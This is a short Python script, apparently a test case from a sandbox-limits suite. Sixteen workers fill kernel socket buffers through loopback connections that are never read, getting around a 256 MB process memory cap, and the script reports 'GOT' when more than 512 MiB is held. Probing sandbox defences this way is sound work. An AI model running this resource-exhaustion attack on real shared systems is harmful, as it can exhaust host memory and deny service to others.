# tries: memory of the kernel: unread bytes in connections to itself
# outcomes: memory_limit error passed timeout
# limits: wall_seconds=6 memory_mb=256
import os, socket, time
import attack
def fill(number):
    held, kept = 0, []
    try:
        server = socket.create_server(("127.0.0.1", 0))
        while True:
            client = socket.create_connection(server.getsockname(), timeout=1)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
            other, _ = server.accept()
            kept += [client, other]
            for end in (client, other):
                end.setblocking(False)
                try:
                    while True:
                        held += end.send(bytes(1 << 18))
                except BlockingIOError:
                    pass
            with open(f"held{number}", "w") as file:
                file.write(str(held))
    except OSError:
        pass
    time.sleep(2)
attack.workers(16, fill)
time.sleep(2.2)
held = sum(int(open(name).read() or 0) for name in os.listdir(".") if name.startswith("held"))
print("GOT" if held > 512 << 20 else "held", held >> 20, "MiB")
attack.tried()
